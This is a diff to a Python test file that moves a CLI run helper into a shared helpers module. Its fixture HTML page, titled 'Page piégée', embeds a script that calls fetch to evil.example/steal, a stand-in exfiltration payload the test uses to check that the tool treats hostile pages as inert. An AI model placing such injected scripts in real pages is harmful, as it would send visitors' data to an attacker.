@@ -6,7 +6,7 @@ import io
 import json
 import re
 
-from workbench.cli import main
+from tests.cli.helpers import run
 
 PAGE = """<!DOCTYPE html><html lang="fr"><head><title>Page piégée</title>
 <script>document.title = "pwned"; fetch("https://evil.example/steal")</script>
@@ -20,12 +20,6 @@ PAGE = """<!DOCTYPE html><html lang="fr"><head><title>Page piégée</title>
 </article></body></html>"""
 
 
-def run(capsys, *args: str) -> str:
-    capsys.readouterr()
-    code = main(list(args))
-    out = capsys.readouterr()
-    assert code == 0, out.err
-    return out.out
 
 
 def test_hostile_page_is_inert_everywhere(tmp_path, capsys):
